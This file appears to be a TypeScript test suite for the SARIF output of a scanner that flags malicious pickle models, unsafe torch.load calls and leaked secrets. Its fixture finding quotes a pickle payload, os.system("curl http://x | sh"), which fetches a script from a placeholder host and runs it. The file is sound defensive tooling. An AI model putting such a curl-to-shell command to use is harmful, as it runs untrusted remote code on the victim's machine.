import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { Ajv } from "ajv";
import addFormats from "ajv-formats";
import fc from "fast-check";
import { loadSarifSchema } from "../../test/helpers/sarif-schema.js";
import type { Finding } from "../core/index.js";
import { MODEL_RULE_IDS } from "../scan/model/index.js";
import { RULE_HELP, SRCROOT, toSarif } from "./index.js";

const ajv = new Ajv({ strict: false, allErrors: true });
(addFormats as unknown as (a: Ajv) => void)(ajv);
const validate = ajv.compile(loadSarifSchema());

function aFinding(overrides: Partial<Finding> = {}): Finding {
  return {
    ruleId: "pickle.dangerous-callable",
    severity: "critical",
    title: "os.system in pickle",
    detail: 'os.system("curl http://x | sh") at offset 42',
    references: ["https://docs.python.org/3/library/pickle.html"],
    owasp: ["LLM03:2025"],
    atlas: ["AML.T0010"],
    location: { path: "models/evil.pt", line: 1 },
    ...overrides,
  };
}

describe("SARIF 2.1.0", () => {
  it("validates against the official schema, with rules, levels and GitHub security severity", () => {
    const log = toSarif({
      toolVersion: "0.1.0",
      findings: [
        aFinding(),
        aFinding({
          ruleId: "secrets.openai-api-key",
          severity: "high",
          location: { path: "/abs/.env", line: 3, column: 9 },
        }),
        aFinding({ location: undefined, severity: "low" }),
      ],
      reasons: [{ ruleId: "pickle.dangerous-callable", decision: "deny", message: "m", waivedBy: "exception x" }],
    });
    assert.ok(validate(log), JSON.stringify(validate.errors?.slice(0, 3)));
    const run = log.runs[0];
    assert.equal(run?.tool.driver.rules?.length, 2);
    assert.deepEqual(
      run?.results?.map((r) => r.level),
      ["error", "error", "note"],
    );
    assert.equal(run?.tool.driver.rules?.[0]?.properties?.["security-severity"], "9.5");
    assert.equal(run?.results?.[1]?.locations?.[0]?.physicalLocation?.artifactLocation?.uri, "file:///abs/.env");
  });

  it("is schema-valid for any findings (property)", () => {
    const finding = fc.record({
      ruleId: fc.stringMatching(/^[a-z][a-z0-9.-]{0,20}$/),
      severity: fc.constantFrom("critical", "high", "medium", "low", "info"),
      title: fc.string({ minLength: 1, maxLength: 40 }),
      detail: fc.string({ maxLength: 40 }),
      references: fc.array(fc.webUrl(), { maxLength: 2 }),
      owasp: fc.constant<Finding["owasp"]>([]),
      atlas: fc.constant<string[]>([]),
      location: fc.option(
        fc.record({
          path: fc.string({ minLength: 1, maxLength: 30 }),
          line: fc.option(fc.integer({ min: 1, max: 1e6 }), { nil: undefined }),
        }),
        { nil: undefined },
      ),
    });
    fc.assert(
      fc.property(fc.array(finding, { maxLength: 8 }), (findings) => {
        assert.ok(validate(toSarif({ toolVersion: "1", findings })), JSON.stringify(validate.errors?.slice(0, 2)));
      }),
      { numRuns: 200 },
    );
  });

  it("writes locations under the scanned root as relative URIs against %SRCROOT%, declared in originalUriBaseIds", () => {
    const log = toSarif({
      toolVersion: "1",
      srcRoot: "/work/repo",
      findings: [
        aFinding({ location: { path: "app/chat.py", line: 3 } }),
        aFinding({ location: { path: "/work/repo/models/evil.pt" } }),
        aFinding({ location: { path: "./lib/x y.py", line: 1 } }),
        aFinding({ location: { path: "/elsewhere/model.pkl" } }),
        aFinding({ location: { path: "../evil.pkl" } }),
        aFinding({ location: { path: "lib/../../up/x.pkl" } }),
      ],
    });
    assert.ok(validate(log), JSON.stringify(validate.errors?.slice(0, 3)));
    const run = log.runs[0];
    assert.deepEqual(run?.originalUriBaseIds?.[SRCROOT]?.uri, "file:///work/repo/");
    assert.deepEqual(
      run?.results?.map((r) => r.locations?.[0]?.physicalLocation?.artifactLocation),
      [
        { uri: "app/chat.py", uriBaseId: SRCROOT },
        { uri: "models/evil.pt", uriBaseId: SRCROOT },
        { uri: "lib/x%20y.py", uriBaseId: SRCROOT },
        { uri: "file:///elsewhere/model.pkl" },
        { uri: "file:///work/evil.pkl" },
        { uri: "file:///work/up/x.pkl" },
      ],
    );
  });

  it("gives every rule a short and full description and help in text and markdown, with how to fix it", () => {
    const log = toSarif({
      toolVersion: "1",
      findings: [
        aFinding({ ruleId: "model/pickle-dangerous-call" }),
        aFinding({ ruleId: "code.unsafe-torch-load", title: "torch.load without weights_only=True" }),
        aFinding({ ruleId: "secrets.something-new", title: "a new kind of secret", references: [] }),
      ],
    });
    assert.ok(validate(log), JSON.stringify(validate.errors?.slice(0, 3)));
    const rules = log.runs[0]?.tool.driver.rules ?? [];
    assert.equal(rules.length, 3);
    for (const rule of rules) {
      assert.ok(rule.shortDescription?.text, rule.id);
      assert.ok(rule.fullDescription?.text, rule.id);
      assert.match(rule.help?.text ?? "", /How to fix: \S/, rule.id);
      assert.match(rule.help?.markdown ?? "", /\*\*How to fix:\*\* \S/, rule.id);
      assert.equal(rule.helpUri, undefined, `${rule.id}: no invented help page`);
    }
    const torch = rules.find((r) => r.id === "code.unsafe-torch-load");
    assert.match(torch?.help?.text ?? "", /weights_only=True/);
    assert.equal(torch?.fullDescription?.text, RULE_HELP["code.unsafe-torch-load"]?.description);
    assert.match(rules[0]?.help?.markdown ?? "", /<https:\/\/docs\.python\.org\/3\/library\/pickle\.html>/);
    const result = log.runs[0]?.results?.[1];
    assert.match(result?.message.text ?? "", /Fix: Pass weights_only=True/);
    assert.equal(result?.properties?.remediation, RULE_HELP["code.unsafe-torch-load"]?.remediation);
  });

  it("has rule help for every model rule", () => {
    for (const id of MODEL_RULE_IDS) assert.ok(RULE_HELP[`model/${id}`]?.remediation, id);
  });

  it("keeps a finding's fingerprint when lines are inserted above it, and tells identical findings apart", () => {
    const torch = (line: number) =>
      aFinding({
        ruleId: "code.unsafe-torch-load",
        title: "torch.load without weights_only=True unpickles arbitrary objects",
        detail: "A malicious checkpoint runs code on load",
        location: { path: "app/train.py", line },
      });
    const fingerprints = (findings: Finding[]) =>
      toSarif({ toolVersion: "1", srcRoot: "/repo", findings }).runs[0]?.results?.map(
        (r) => r.partialFingerprints?.["palisade/v2"],
      ) ?? [];
    const before = fingerprints([torch(3), torch(9), aFinding({ location: { path: "models/a.pkl" } })]);
    const after = fingerprints([torch(13), torch(19), aFinding({ location: { path: "models/a.pkl" } })]);
    assert.deepEqual(after, before);
    assert.equal(new Set(before).size, 3);
    assert.match(before[0] ?? "", /^[0-9a-f]{32}:1$/);
    assert.match(before[1] ?? "", /^[0-9a-f]{32}:2$/);
    // A byte offset in the detail is a position too: a re-saved pickle keeps its fingerprint.
    const model = (offset: number) =>
      fingerprints([aFinding({ detail: `os.system("x") (offset ${offset})`, location: { path: "m.pkl" } })]);
    assert.deepEqual(model(42), model(4242));
    // Another file, rule or matched text is another finding.
    assert.notEqual(
      fingerprints([torch(3)])[0],
      fingerprints([{ ...torch(3), location: { path: "b.py", line: 3 } }])[0],
    );
    assert.notEqual(fingerprints([torch(3)])[0], fingerprints([{ ...torch(3), detail: "other" }])[0]);
  });
});
